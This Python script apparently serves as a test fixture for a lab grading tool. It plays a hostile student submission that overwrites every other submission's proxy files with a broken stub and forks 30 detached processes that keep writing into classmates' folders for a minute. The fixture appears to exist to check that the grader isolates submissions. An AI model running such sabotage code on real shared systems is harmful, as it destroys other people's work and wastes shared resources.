"""A submission that sabotages its classmates in `lab grade-all`: it writes a broken proxy
over every other submission's myproxy.py and proxy.py, and leaves 30 `setsid` children
spinning for a minute that keep trying to write into their folders — then proxies like
the tiny proxy.

    python3 saboteur.py {port} SUBMISSIONS_DIR MARK
"""
import glob
import os
import sys
import time

from common import become_tiny, try_write

port, folder = int(sys.argv[1]), sys.argv[2]
broken = "import sys\nsys.exit('sabotaged')\n"
for name in ("myproxy.py", "proxy.py"):
    for path in glob.glob(os.path.join(folder, "*", name)):
        try_write(path, broken)
for _ in range(30):
    if os.fork() == 0:
        os.setsid()
        end = time.time() + 60
        while time.time() < end:
            for path in glob.glob(os.path.join(folder, "*", "")):
                try:
                    open(os.path.join(path, "sabotaged.txt"), "w").write("x")
                except OSError:
                    pass
            sum(range(10000))
        os._exit(0)
become_tiny(port)
